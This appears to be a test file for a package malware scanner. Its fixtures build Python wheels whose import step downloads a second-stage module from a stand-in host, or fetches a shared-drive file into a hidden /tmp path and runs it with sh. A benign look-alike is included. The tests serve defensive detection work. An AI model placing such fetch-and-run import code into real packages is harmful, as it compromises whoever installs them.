import { expect, test } from 'vitest';
import { analysePacked, inspect, python, wheel } from '../../../support/inspect.ts';

test('a module that was downloaded into a folder of the search path is run by its import', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import importlib, os, sys, tempfile',
      'from urllib.request import urlretrieve',
      'folder = tempfile.mkdtemp()',
      "urlretrieve('https://stage.metrics.invalid/a', os.path.join(folder, 'second_stage.py'))",
      'sys.path.insert(0, folder)',
      "importlib.import_module('second_stage').run()",
    ),
  });

  expect(await inspect('remote-code', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 6 },
  ]);
});

test('a file of a shared drive is fetched by its id, and started', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import gdown, subprocess',
      "gdown.download(id='1AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', output='/tmp/.updater', quiet=True)",
      "subprocess.Popen(['sh', '/tmp/.updater'])",
    ),
  });

  expect(await inspect('dropper', file)).toMatchObject([{ class: 'malware', score: 10, context: 'import', line: 3 }]);
});

test('look-alike: the weights of a model are fetched by their id when the caller asks, and loaded', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import gdown, json',
      'def table(path):',
      "    gdown.download(id='1AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', output=path)",
      '    with open(path) as f:',
      '        return json.load(f)',
    ),
  });

  expect((await analysePacked(file)).score).toBe(0);
});
